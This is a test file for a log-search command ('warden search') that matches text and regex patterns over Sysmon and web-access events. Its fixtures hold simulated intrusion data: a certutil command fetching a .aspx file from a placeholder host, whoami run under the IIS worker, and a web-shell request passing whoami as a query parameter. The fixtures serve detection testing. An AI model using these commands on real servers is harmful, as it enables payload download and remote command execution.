/**
 * `warden search` (issue 14): literal and regex search over decoded events, limited to fields,
 * any/all, case, time window, limit; table and JSON Lines out; bad patterns are usage errors.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EventMatcher, SearchSpecError } from '../../src/api/search.js';
import type { Event } from '../../src/event/event.js';
import { repoRoot } from '../helpers/shared.js';

const root = repoRoot();
const cli = join(root, 'dist', 'src', 'cli', 'main.js');

function warden(args: string[], cwd: string): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', cwd, env: { ...process.env, NO_COLOR: '1', COLUMNS: '160' } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const ev = (fields: Event['fields']): Event => ({ fields, logsource: {}, origin: { file: 'x', record: 1, format: 'json' } });

test('the matcher: literal, case, regex, fields by Sigma name, any/all, lists, the fields that matched', () => {
  const e = ev({ CommandLine: 'cmd.exe /c WHOAMI /all', 'Parent Image': 'C:\\w3wp.exe', Tags: ['a', 'certutil -urlcache'], Pid: 4242, Empty: null });
  assert.equal(new EventMatcher({ texts: ['whoami'], regexes: [] }).match(e), undefined);
  assert.deepEqual(new EventMatcher({ texts: ['whoami'], regexes: [], ignoreCase: true }).match(e), [{ field: 'CommandLine', value: 'cmd.exe /c WHOAMI /all', pattern: 'whoami' }]);
  assert.deepEqual(new EventMatcher({ texts: [], regexes: ['certutil\\s+-url'] }).match(e), [{ field: 'Tags', value: 'certutil -urlcache', pattern: 'certutil\\s+-url' }]);
  assert.deepEqual(new EventMatcher({ texts: ['4242'], regexes: [] }).match(e), [{ field: 'Pid', value: '4242', pattern: '4242' }]);
  // field names as Sigma compares them: case and spaces ignored
  assert.deepEqual(
    new EventMatcher({ texts: ['w3wp'], regexes: [], fields: ['parentimage'] }).match(e)?.map((m) => m.field),
    ['Parent Image'],
  );
  assert.equal(new EventMatcher({ texts: ['w3wp'], regexes: [], fields: ['CommandLine'] }).match(e), undefined);
  // any (default) vs all
  assert.equal(new EventMatcher({ texts: ['w3wp', 'nothere'], regexes: [] }).match(e)?.length, 1);
  assert.equal(new EventMatcher({ texts: ['w3wp', 'nothere'], regexes: [], all: true }).match(e), undefined);
  assert.deepEqual(
    new EventMatcher({ texts: ['w3wp'], regexes: ['/all$'], all: true }).match(e)?.map((m) => m.pattern),
    ['/all$', 'w3wp'],
  );
});

test('the matcher refuses nothing to search, an empty text and a regex the linear-time engine cannot run, naming the feature', () => {
  assert.throws(() => new EventMatcher({ texts: [], regexes: [] }), SearchSpecError);
  assert.throws(() => new EventMatcher({ texts: [''], regexes: [] }), /empty text/);
  assert.throws(() => new EventMatcher({ texts: [], regexes: ['(?<=a)b'] }), /lookbehind .* is not supported/);
  assert.throws(() => new EventMatcher({ texts: [], regexes: ['(a'] }), /--regex: invalid or unsupported regular expression/);
});

function caseDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'warden-search-'));
  const lines = [
    { UtcTime: '2026-03-02 09:00:00.000', Computer: 'WEB01', EventID: 1, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c whoami', ParentImage: 'C:\\w3wp.exe' },
    {
      UtcTime: '2026-03-02 10:00:00.000',
      Computer: 'WEB01',
      EventID: 1,
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil -urlcache -f http://x/a.aspx',
      ParentImage: 'C:\\w3wp.exe',
    },
    {
      UtcTime: '2026-03-03 11:00:00.000',
      Computer: 'DB01',
      EventID: 1,
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd /c WHOAMI /priv',
      ParentImage: 'C:\\sqlservr.exe',
    },
  ];
  writeFileSync(join(dir, 'sysmon.jsonl'), `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
  writeFileSync(join(dir, 'access.log'), '10.0.0.9 - - [02/Mar/2026:09:00:01 +0000] "GET /up/a.aspx?cmd=whoami HTTP/1.1" 200 12 "-" "curl/8"\n');
  return dir;
}

test('warden search: JSON Lines of the matching events with what matched, across formats, in input order', () => {
  const dir = caseDir();
  const r = warden(['search', '.', '-e', 'whoami', '-i', '-f', 'jsonl', '--no-raw'], dir);
  assert.equal(r.code, 0, r.stderr);
  const recs = r.stdout
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as { host: string | null; source: { file: string; record: number; format: string }; matches: { field: string; value: string }[]; raw?: string });
  assert.deepEqual(
    recs.map((x) => [x.source.file, x.source.record, x.source.format, x.matches.map((m) => `${m.field}=${m.value}`).join(' ')]),
    [
      ['access.log', 1, 'access', 'cs-uri-query=cmd=whoami'],
      ['sysmon.jsonl', 1, 'json', 'CommandLine=cmd /c whoami'],
      ['sysmon.jsonl', 3, 'json', 'CommandLine=cmd /c WHOAMI /priv'],
    ],
  );
  assert.ok(recs.every((x) => x.raw === undefined));
  assert.match(r.stderr, /^3 matching event\(s\) of 4 read in [\d.]+ s \(json 3, access 1\)\n$/);
});

test('warden search: --field, --regex, --all, --from/--to, --limit, --fail-on-findings, and the table', () => {
  const dir = caseDir();
  const ids = (args: string[]): string[] => {
    const r = warden(['search', '.', '-f', 'jsonl', ...args], dir);
    assert.equal(r.code, 0, r.stderr);
    return r.stdout
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => {
        const x = JSON.parse(l) as { source: { file: string; record: number } };
        return `${x.source.file}:${x.source.record}`;
      });
  };
  assert.deepEqual(ids(['-e', 'w3wp', '--field', 'parentimage']), ['sysmon.jsonl:1', 'sysmon.jsonl:2']);
  assert.deepEqual(ids(['-e', 'w3wp', '--field', 'CommandLine']), []);
  assert.deepEqual(ids(['--regex', 'certutil.+urlcache', '-e', 'aspx', '--all']), ['sysmon.jsonl:2']);
  assert.deepEqual(ids(['-e', 'exe', '--from', '2026-03-02T09:30', '--to', '2026-03-02']), ['sysmon.jsonl:2']);
  assert.deepEqual(ids(['-e', 'cmd', '-i', '--from', '2026-03-03']), ['sysmon.jsonl:3']);
  assert.deepEqual(ids(['-e', 'exe', '-n', '2']), ['sysmon.jsonl:1', 'sysmon.jsonl:2']);
  let r = warden(['search', '.', '-e', 'whoami', '--fail-on-findings'], dir);
  assert.equal(r.code, 3);
  r = warden(['search', '.', '-e', 'nothing-like-this', '--fail-on-findings'], dir);
  assert.equal(r.code, 0);
  assert.match(r.stdout, /^\n0 matching event\(s\) of 4 read in/);
  r = warden(['search', 'sysmon.jsonl', '-e', 'whoami', '--no-progress'], dir);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.split('\n');
  assert.match(lines[0]!, /^Time +│ Host +│ Source +│ Match$/);
  assert.match(lines[2]!, /^2026-03-02T09:00:00\.000Z │ WEB01 │ sysmon\.jsonl:1 +│ CommandLine: cmd \/c whoami$/);
  assert.equal(lines[3], '');
  assert.match(lines[4]!, /^1 matching event\(s\) of 3 read in [\d.]+ s \(json 3\)$/);
});

test('warden search: bad usage is exit 2 with one clear line; an unreadable input is named', () => {
  const dir = caseDir();
  let r = warden(['search', '.'], dir);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /nothing to search for: give -e TEXT or --regex RE/);
  r = warden(['search', '.', '--regex', 'a(?!b)'], dir);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /lookahead .* is not supported by the linear-time regex engine/);
  r = warden(['search', 'missing.log', '-e', 'x'], dir);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /missing\.log/);
});
